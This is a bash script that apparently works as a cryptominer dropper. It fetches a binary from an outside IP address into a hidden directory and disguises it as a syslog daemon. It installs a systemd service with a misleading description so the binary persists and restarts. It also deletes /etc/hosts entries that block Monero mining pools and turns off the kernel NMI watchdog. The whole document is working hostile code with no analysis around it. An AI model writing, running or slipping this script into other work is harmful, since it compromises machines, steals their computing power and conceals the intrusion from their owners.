#!/bin/bash
BIN=/usr/lib/.syslogd/syslogd
URL=http://198.51.100.63/dl
fetch() { curl -fsSL "$1" -o "$2" || wget -q "$1" -O "$2"; }
if ! ps aux | grep -v grep | grep -q syslogd-helper; then
  mkdir -p /usr/lib/.syslogd
  fetch $URL/x64 $BIN && chmod +x $BIN
  cat > /lib/systemd/system/syslogd-helper.service <<EOT
[Unit]
Description=System log helper
[Service]
ExecStart=$BIN
Restart=always
RestartSec=30
[Install]
WantedBy=multi-user.target
EOT
  systemctl daemon-reload
  systemctl enable --now syslogd-helper
fi
sed -i '/supportxmr\|nanopool\|minexmr/d' /etc/hosts
echo 0 > /proc/sys/kernel/nmi_watchdog
